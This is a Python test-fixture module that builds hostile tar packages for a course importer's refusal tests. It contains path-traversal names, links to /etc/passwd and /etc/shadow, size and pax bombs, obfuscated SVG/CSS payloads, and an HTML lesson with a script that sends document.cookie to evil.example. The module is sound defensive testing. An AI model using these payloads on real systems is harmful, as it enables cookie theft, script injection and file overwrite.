"""The hostile-package corpus, as code: each case turns a good package into a bad tar.

Nothing here is a committed binary. A case takes the members of a good package (its parsed
manifest and its files) and returns the bytes of a tar that ``import_package`` must refuse,
together with words that the refusal message must contain.
"""

from __future__ import annotations

import hashlib
import json
import os
import tarfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

from content.package.manifest import dumps

BLOCK = 512
RECORD = 20 * BLOCK
PNG_NAME = "media/pic.png"
SVG_NAME = "media/drawing.svg"


@dataclass
class Good:
    """A good package taken apart: the manifest (parsed) and every other member's bytes."""

    manifest: dict[str, Any]
    files: dict[str, bytes]

    def copy(self) -> Good:
        return Good(json.loads(json.dumps(self.manifest)), dict(self.files))


def take_apart(package: Path) -> Good:
    """Read one of *our own* packages (trusted here) into a :class:`Good`."""
    files: dict[str, bytes] = {}
    manifest: dict[str, Any] = {}
    with tarfile.open(package, "r:") as tar:
        for member in tar:
            stream = tar.extractfile(member)
            assert stream is not None
            if member.name == "manifest.json":
                manifest = json.loads(stream.read())
            else:
                files[member.name] = stream.read()
    return Good(manifest, files)


def header(
    name: str,
    size: int = 0,
    *,
    kind: bytes = tarfile.REGTYPE,
    linkname: str = "",
    pax: dict[str, str] | None = None,
    fmt: Literal[0, 1, 2] = tarfile.PAX_FORMAT,  # USTAR, GNU or PAX
) -> bytes:
    """Header block(s) for one member; ``size`` is what is *declared* (it may lie)."""
    info = tarfile.TarInfo(name)
    info.size = size
    info.type = kind
    info.linkname = linkname
    info.mode = 0o644
    info.pax_headers = dict(pax or {})
    return info.tobuf(fmt, "utf-8", "surrogateescape")


def member(name: str, data: bytes = b"", **options: Any) -> bytes:
    """A whole member: header, data, padding."""
    return header(name, len(data), **options) + data + b"\0" * (-len(data) % BLOCK)


def end(body: bytes) -> bytes:
    """Add the end-of-archive marker and record padding."""
    body += b"\0" * (2 * BLOCK)
    return body + b"\0" * (-len(body) % RECORD)


def listing(files: dict[str, bytes], old: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Manifest ``files`` entries for ``files`` (media types kept from ``old`` when known)."""
    types = {entry["path"]: entry["media_type"] for entry in old}
    return [
        {
            "path": path,
            "size": len(data),
            "sha256": hashlib.sha256(data).hexdigest(),
            "media_type": types.get(path, "image/png"),
        }
        for path, data in sorted(files.items())
    ]


def archive(good: Good, *, relist: bool = True, extra: bytes = b"", finish: bool = True) -> bytes:
    """A tar of ``good`` (manifest first, relisted); ``extra`` members go at the end."""
    manifest = good.manifest
    if relist:
        manifest = {**manifest, "files": listing(good.files, manifest["files"])}
    body = member("manifest.json", dumps(manifest))
    body += b"".join(member(path, data) for path, data in sorted(good.files.items()))
    return end(body + extra) if finish else body + extra


def with_member(name: str, data: bytes = b"x", **options: Any) -> Callable[[Good], bytes]:
    """A case: the good package plus one extra (unlisted) member."""
    return lambda good: archive(good, extra=member(name, data, **options))


def with_listed(files: dict[str, bytes]) -> Callable[[Good], bytes]:
    """A case: the good package plus extra members that are listed in the manifest."""

    def build(good: Good) -> bytes:
        bad = good.copy()
        bad.files.update(files)
        return archive(bad)

    return build


def twice(first: str, second: str) -> Callable[[Good], bytes]:
    """A case: two listed members whose names collide."""

    def build(good: Good) -> bytes:
        bad = good.copy()
        data = bad.files[PNG_NAME]
        body = member("manifest.json", dumps(bad.manifest))
        body += b"".join(member(p, d) for p, d in sorted(bad.files.items()))
        return end(body + member(first, data) + member(second, data))

    return build


def manifest_not_first(good: Good) -> bytes:
    body = member(PNG_NAME, good.files[PNG_NAME]) + member("manifest.json", dumps(good.manifest))
    return end(body + b"".join(member(p, d) for p, d in good.files.items() if p != PNG_NAME))


def many_members(good: Good) -> bytes:
    names = [f"media/many/{index:05}.vtt" for index in range(20_001)]
    return archive(good, extra=b"".join(header(name) for name in names))


def truncated_last(good: Good) -> bytes:
    # The last member declares 1 MiB, has 100 bytes, and the package simply ends.
    return archive(good, extra=header("media/zz.webm", 1 << 20) + b"\x1a" * 100, finish=False)


def size_lies_short(good: Good) -> bytes:
    # Declares fewer bytes than follow: the rest of its data is read as the next header.
    data = good.files[PNG_NAME] + os.urandom(600)
    return archive(good, extra=header("media/lie.png", 10) + data)


def size_bomb(good: Good) -> bytes:
    return archive(good, extra=header("media/bomb.webm", 3 << 30))


def pax_size_bomb(good: Good) -> bytes:
    return archive(good, extra=header("media/bomb.webm", 1, pax={"size": str(10**15)}))


def huge_pax_header(good: Good) -> bytes:
    raw = header("media/x.png", kind=tarfile.XHDTYPE)
    fake = bytearray(raw[:BLOCK])
    fake[124:136] = b"%011o\0" % (1 << 30)
    fake[148:156] = b"        "
    fake[148:156] = b"%06o\0 " % sum(fake)
    return archive(good, extra=bytes(fake))


def random_bytes(_good: Good) -> bytes:
    return os.urandom(64 * 1024)


def empty_file(_good: Good) -> bytes:
    return b""


def data_after_end(good: Good) -> bytes:
    return archive(good) + os.urandom(1000)


def gnu_format(good: Good) -> bytes:
    return archive(good, extra=member("media/gnu.png", b"x", fmt=tarfile.GNU_FORMAT))


def lists_missing(good: Good) -> bytes:
    bad = good.copy()
    del bad.files[PNG_NAME]
    return archive(bad, relist=False)


def wrong_hash(good: Good) -> bytes:
    bad = good.copy()
    bad.files[PNG_NAME] = bad.files[PNG_NAME][:-1] + b"\x01"
    return archive(bad, relist=False)


def wrong_size(good: Good) -> bytes:
    bad = good.copy()
    bad.files[PNG_NAME] += b"\0"
    return archive(bad, relist=False)


def unlisted_file(good: Good) -> bytes:
    return archive(good, extra=member("media/extra.png", good.files[PNG_NAME]))


def png_holding_html(good: Good) -> bytes:
    bad = good.copy()
    bad.files[PNG_NAME] = b"<!doctype html><script>alert(1)</script>"
    return archive(bad)


def exe_as_webm(good: Good) -> bytes:
    bad = good.copy()
    bad.files["media/v.webm"] = b"\x7fELF" + b"\0" * 100
    return archive(bad)


def wrong_media_type(good: Good) -> bytes:
    bad = good.copy()
    for entry in bad.manifest["files"]:
        if entry["path"] == PNG_NAME:
            entry["media_type"] = "image/gif"
    return archive(bad)


def invalid_manifest(good: Good) -> bytes:
    bad = good.copy()
    bad.manifest["course"]["id"] = "../../etc"
    return archive(bad)


def manifest_not_json(good: Good) -> bytes:
    body = member("manifest.json", b"{not json")
    return end(body + b"".join(member(p, d) for p, d in sorted(good.files.items())))


def with_manifest(data: bytes) -> Callable[[Good], bytes]:
    """A case: the good package's files after a manifest.json of exactly ``data``."""

    def build(good: Good) -> bytes:
        body = member("manifest.json", data)
        return end(body + b"".join(member(p, d) for p, d in sorted(good.files.items())))

    return build


def nested_manifest(good: Good) -> bytes:
    # Valid JSON that no parser that recurses per level can read: 100,000 lists deep.
    return with_manifest(b'{"format":1,"course":' + b"[" * 100_000 + b"]" * 100_000 + b"}")(good)


def huge_number_manifest(good: Good) -> bytes:
    # Python refuses to turn more than 4,300 digits into an int (a ValueError, not JSON's).
    bad = good.copy()
    bad.manifest["course"]["version"] = 1234567
    text = dumps(bad.manifest).replace(b":1234567", b":" + b"9" * 5_000)
    return with_manifest(text)(good)


def stray_lesson_html(good: Good) -> bytes:
    return with_listed({"lessons/stray.html": b"<p>hi</p>"})(good)


def with_svg(svg: bytes) -> Callable[[Good], bytes]:
    """A case: the good package plus one listed SVG drawing."""

    def build(good: Good) -> bytes:
        bad = good.copy()
        bad.files[SVG_NAME] = svg
        bad.manifest["files"].append({"path": SVG_NAME, "media_type": "image/svg+xml"})
        return archive(bad)

    return build


def with_lesson(index: int, **changes: Any) -> Callable[[Good], bytes]:
    """A case: the good package with one lesson's manifest entry changed (``None`` drops
    a field): schema-valid, but broken for a learner."""

    def build(good: Good) -> bytes:
        bad = good.copy()
        entry = bad.manifest["lessons"][index]
        entry.update(changes)
        for name in [k for k, v in changes.items() if v is None]:
            del entry[name]
        return archive(bad)

    return build


def _quiz(*questions: dict[str, Any]) -> dict[str, Any]:
    return {"pass_mark": 50, "feedback": "on-submit", "questions": list(questions)}


def bad_utf8_name(good: Good) -> bytes:
    return archive(good, extra=member("media/\udcff.png", b"x", fmt=tarfile.USTAR_FORMAT))


@dataclass(frozen=True)
class Case:
    """One hostile package and the words its refusal must contain."""

    build: Callable[[Good], bytes]
    expect: tuple[str, ...]
    limits: dict[str, int] = field(default_factory=dict)


def _svg(body: str, namespaces: str = "") -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg"{namespaces}>{body}</svg>'.encode()


XHTML = ' xmlns:h="http://www.w3.org/1999/xhtml"'
EVIL = "http://evil.example/x"

# Drawings that must be refused, and words the refusal names. Each is also a package case
# below ("svg-…"), so the import refuses them too.
HOSTILE_SVGS: dict[str, tuple[bytes, str]] = {
    "xhtml-meta-refresh": (
        _svg(f'<h:meta http-equiv="refresh" content="0;url={EVIL}"/>', XHTML),
        "<meta> element from the namespace http://www.w3.org/1999/xhtml",
    ),
    "xhtml-default-namespace": (
        _svg(
            '<g><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" '
            f'content="0;url={EVIL}"/></g>'
        ),
        "<meta> element from the namespace",
    ),
    "xhtml-script": (_svg("<h:script>alert(1)</h:script>", XHTML), "<script> element from"),
    "no-namespace": (b'<svg><meta http-equiv="refresh" content="0"/></svg>', "not <svg> with"),
    "script": (_svg("<script>alert(1)</script>"), "<script> element"),
    "foreign-object": (_svg("<foreignObject/>"), "<foreignobject> element"),
    "image": (_svg('<image href="#a"/>'), "<image> element"),
    "xml-events-listener": (
        _svg(
            '<ev:listener event="load" handler="#h"/>',
            ' xmlns:ev="http://www.w3.org/2001/xml-events"',
        ),
        "<listener> element from the namespace",
    ),
    "onload": (_svg('<rect onload="alert(1)"/>'), "event handler 'onload'"),
    "onload-upper-case": (_svg('<rect ONLOAD="alert(1)"/>'), "event handler 'onload'"),
    "unknown-attribute": (_svg('<rect formaction="x"/>'), "attribute 'formaction'"),
    "xml-base": (_svg('<a xml:base="http://evil.example/"/>'), "attribute 'namespace:base'"),
    "link-out": (_svg(f'<a href="{EVIL}"><text>x</text></a>'), "outside the drawing"),
    "javascript-link": (_svg('<a href="javascript:alert(1)">x</a>'), "outside the drawing"),
    "use-other-file": (_svg(f'<use href="{EVIL}.svg#a"/>'), "outside the drawing"),
    "set-href": (_svg('<a><set attributeName="xlink:href" to="x"/></a>'), "changes the attribute"),
    "animate-to-url": (
        _svg(f'<rect><animate attributeName="fill" to="url({EVIL})"/></rect>'),
        "outside the drawing",
    ),
    "url-in-fill-attribute": (_svg(f'<rect fill="url({EVIL})"/>'), "outside the drawing"),
    "quoted-url-in-filter": (_svg(f"<rect filter='url(\"{EVIL}\")'/>"), "outside the drawing"),
    "character-reference-url": (
        _svg(f'<rect fill="&#x75;&#x72;l({EVIL})"/>'),
        "outside the drawing",
    ),
    "css-escaped-import": (
        _svg(f'<style>@\\69mport "{EVIL}.css";</style>'),
        "@import rule",
    ),
    "css-escaped-url": (
        _svg(f"<style>rect {{ fill: u\\72l({EVIL}) }}</style>"),
        "outside the drawing",
    ),
    "css-escaped-url-in-style-attribute": (
        _svg(f'<rect style="fill:u\\72l({EVIL})"/>'),
        "outside the drawing",
    ),
    "css-image-set": (
        _svg(f'<style>rect {{ fill: image-set("{EVIL}.png" 1x) }}</style>'),
        "image-set()",
    ),
    "css-import-split-by-cdata": (
        _svg(f'<style>@imp<![CDATA[ort]]> "{EVIL}.css";</style>'),
        "@import rule",
    ),
    "css-import-split-by-reference": (
        _svg(f'<style>@imp&#111;rt "{EVIL}.css";</style>'),
        "@import rule",
    ),
    "css-font-face": (
        _svg(f"<style>@font-face {{ font-family: x; src: url({EVIL}) }}</style>"),
        "@font-face rule",
    ),
    "css-expression": (_svg('<rect style="width: expression(alert(1))"/>'), "expression()"),
    "css-bad-url": (_svg("<style>rect { fill: url(a b) }</style>"), "CSS cannot be read"),
    "element-in-style": (_svg("<style>a{}<g/></style>"), "<style> contains a <g>"),
    "stylesheet-instruction": (
        f'<?xml-stylesheet href="{EVIL}.css"?><svg xmlns="http://www.w3.org/2000/svg"/>'.encode(),
        "processing instruction",
    ),
    "entity": (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "y">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"/>',
        "DOCTYPE",
    ),
}

NFD_E = "e\u0301"
DEPTH_300 = "media/" + "d/" * 300 + "x.png"

CASES: dict[str, Case] = {
    "dot-dot": Case(with_member("media/../../evil.png"), ("'..'", "media/../../evil.png")),
    "dot-dot-top": Case(with_member("../evil"), ("'..'", "../evil")),
    "absolute": Case(with_member("/etc/cron.d/evil"), ("absolute path", "/etc/cron.d/evil")),
    "symlink-inside": Case(
        with_member("media/link.png", b"", kind=tarfile.SYMTYPE, linkname="pic.png"),
        ("symbolic link", "media/link.png"),
    ),
    "symlink-outside": Case(
        with_member("media/link.png", b"", kind=tarfile.SYMTYPE, linkname="/etc/shadow"),
        ("symbolic link", "media/link.png"),
    ),
    "hardlink-inside": Case(
        with_member("media/hard.png", b"", kind=tarfile.LNKTYPE, linkname=PNG_NAME),
        ("hard link", "media/hard.png"),
    ),
    "hardlink-outside": Case(
        with_member("media/hard.png", b"", kind=tarfile.LNKTYPE, linkname="/etc/passwd"),
        ("hard link", "media/hard.png"),
    ),
    "char-device": Case(
        with_member("media/null", b"", kind=tarfile.CHRTYPE), ("character device", "media/null")
    ),
    "block-device": Case(
        with_member("media/sda", b"", kind=tarfile.BLKTYPE), ("block device", "media/sda")
    ),
    "fifo": Case(with_member("media/pipe", b"", kind=tarfile.FIFOTYPE), ("FIFO", "media/pipe")),
    "pax-global": Case(
        with_member("pax_global_header", b"", kind=tarfile.XGLTYPE), ("pax global header",)
    ),
    "gnu-sparse": Case(
        with_member("media/sparse.webm", b"", kind=tarfile.GNUTYPE_SPARSE), ("GNU sparse",)
    ),
    "pax-sparse-key": Case(
        with_member("media/s.webm", b"x", pax={"GNU.sparse.map": "0,1"}), ("GNU.sparse.map",)
    ),
    "gnu-format": Case(gnu_format, ("GNU tar format",)),
    "duplicate": Case(twice("media/dup.png", "media/dup.png"), ("twice", "media/dup.png")),
    "case-collision": Case(twice("media/Dup.png", "media/dup.png"), ("twice", "media/dup.png")),
    "casefold-collision": Case(twice("media/ﬁle.png", "media/FILE.png"), ("twice",)),
    "nfd-name": Case(twice(f"media/caf{NFD_E}.png", "media/x.png"), ("NFC", "media/caf")),
    "kelvin-sign": Case(with_member("media/\u212a.png"), ("NFC",)),
    "file-then-folder": Case(
        twice("media/thing", "media/thing/inner.png"), ("inside a file", "media/thing/inner.png")
    ),
    "folder-then-file": Case(
        twice("media/thing/inner.png", "media/thing"), ("both a file and a folder", "media/thing")
    ),
    "folder-entry-then-file": Case(
        lambda good: archive(
            good,
            extra=member("media/thing/", kind=tarfile.DIRTYPE) + member("media/thing", b"x"),
        ),
        ("both a file and a folder", "media/thing"),
    ),
    "control-char": Case(with_member("media/a\nb.png"), ("control character", "media/a\\x0ab.png")),
    "bidi-override": Case(with_member("media/gnp\u202e.exe"), ("control character", "\\u202e")),
    "backslash": Case(with_member("media\\..\\evil.png"), ("backslash",)),
    "outside-top-folders": Case(
        with_member("evil.sh"), ("outside lessons/, media/ and apps/", "evil.sh")
    ),
    "duplicate-manifest": Case(with_member("manifest.json", b"{}"), ("twice", "manifest.json")),
    "deep-300": Case(with_member(DEPTH_300), ("302 levels deep", "the limit is 9")),
    "long-name": Case(with_member("media/" + "n" * 300 + ".png"), ("longer than 255",)),
    "many-members": Case(many_members, ("more than 20,000 members",)),
    "truncated-last": Case(truncated_last, ("truncated", "media/zz.webm", "1,048,576")),
    "size-lies-short": Case(size_lies_short, ("damaged", "media/lie.png")),
    "size-bomb": Case(size_bomb, ("media/bomb.webm", "declares 3,221,225,472 bytes")),
    "pax-size-bomb": Case(pax_size_bomb, ("media/bomb.webm", "declares 1,000,000,000,000,000")),
    "total-size": Case(
        with_member("media/big.png", b"x" * (9 << 20)),
        ("more than 8,388,608 bytes", "media/big.png"),
        {"max_package_bytes": 8 << 20},
    ),
    "huge-pax-header": Case(huge_pax_header, ("pax header of 1,073,741,824 bytes",)),
    "random-bytes": Case(random_bytes, ("damaged",)),
    "empty-file": Case(empty_file, ("ends in the middle of a header",)),
    "data-after-end": Case(data_after_end, ("data after the end",)),
    "non-utf8-name": Case(bad_utf8_name, ("not valid UTF-8",)),
    "manifest-not-first": Case(manifest_not_first, ("manifest.json must be the first", PNG_NAME)),
    "manifest-invalid": Case(invalid_manifest, ("manifest.json is not valid", "course/id")),
    "manifest-not-json": Case(manifest_not_json, ("not valid JSON",)),
    "manifest-nested-deep": Case(nested_manifest, ("manifest.json is nested too deeply",)),
    "manifest-huge-number": Case(
        huge_number_manifest, ("manifest.json has a number with more than 15 digits",)
    ),
    "lists-missing": Case(lists_missing, ("listed in the manifest but missing", PNG_NAME)),
    "wrong-hash": Case(wrong_hash, ("SHA-256", PNG_NAME)),
    "wrong-size": Case(wrong_size, ("the manifest says", PNG_NAME)),
    "unlisted-file": Case(unlisted_file, ("not in the manifest", "media/extra.png")),
    "png-holding-html": Case(png_holding_html, ("HTML document", PNG_NAME)),
    "exe-as-webm": Case(exe_as_webm, ("ELF executable", "media/v.webm")),
    "wrong-media-type": Case(wrong_media_type, ("manifest says image/gif", PNG_NAME)),
    "stray-lesson-html": Case(stray_lesson_html, ("lessons/stray.html",)),
    "video-without-media": Case(
        with_lesson(1, media=None), ("lesson 'video'", "a video lesson needs its 'media' file")
    ),
    "quiz-without-quiz": Case(
        with_lesson(0, kind="quiz"), ("lesson 'intro'", "a quiz lesson needs its 'quiz'")
    ),
    "question-without-choices": Case(
        with_lesson(0, kind="quiz", quiz=_quiz({"key": "q1", "type": "single", "prompt": "?"})),
        ("lesson 'intro'", "question 'q1': a 'single' question needs at least 2 choices"),
    ),
    "duplicate-question-keys": Case(
        with_lesson(
            0,
            kind="quiz",
            quiz=_quiz(
                {"key": "q1", "type": "true-false", "prompt": "?", "answer": True},
                {"key": "q1", "type": "true-false", "prompt": "!", "answer": False},
            ),
        ),
        ("lesson 'intro'", "question key 'q1' is used twice"),
    ),
    "checklist-without-options": Case(
        with_lesson(
            0,
            kind="workbook",
            workbook={
                "prompts": [
                    {"key": "p", "type": "checklist", "prompt": "?", "visibility": "private"}
                ]
            },
        ),
        ("lesson 'intro'", "prompt 'p': a checklist needs 'options'"),
    ),
    **{
        f"svg-{name}": Case(with_svg(svg), (SVG_NAME, "SVG refused", words))
        for name, (svg, words) in HOSTILE_SVGS.items()
    },
}


HOSTILE_HTML = (
    '<h2 id="intro">Hi</h2><p onclick="steal()">Text</p>'
    "<script>fetch('http://evil.example/'+document.cookie)</script>"
    '<iframe src="http://evil.example/"></iframe><img src="media/pic.png" onerror="x()">'
)


def hostile_html(good: Good) -> tuple[bytes, str]:
    """A package whose first lesson's HTML carries script, a frame and event handlers."""
    bad = good.copy()
    path = bad.manifest["lessons"][0]["html"]
    bad.files[path] = HOSTILE_HTML.encode("utf-8")
    return archive(bad), bad.manifest["lessons"][0]["key"]
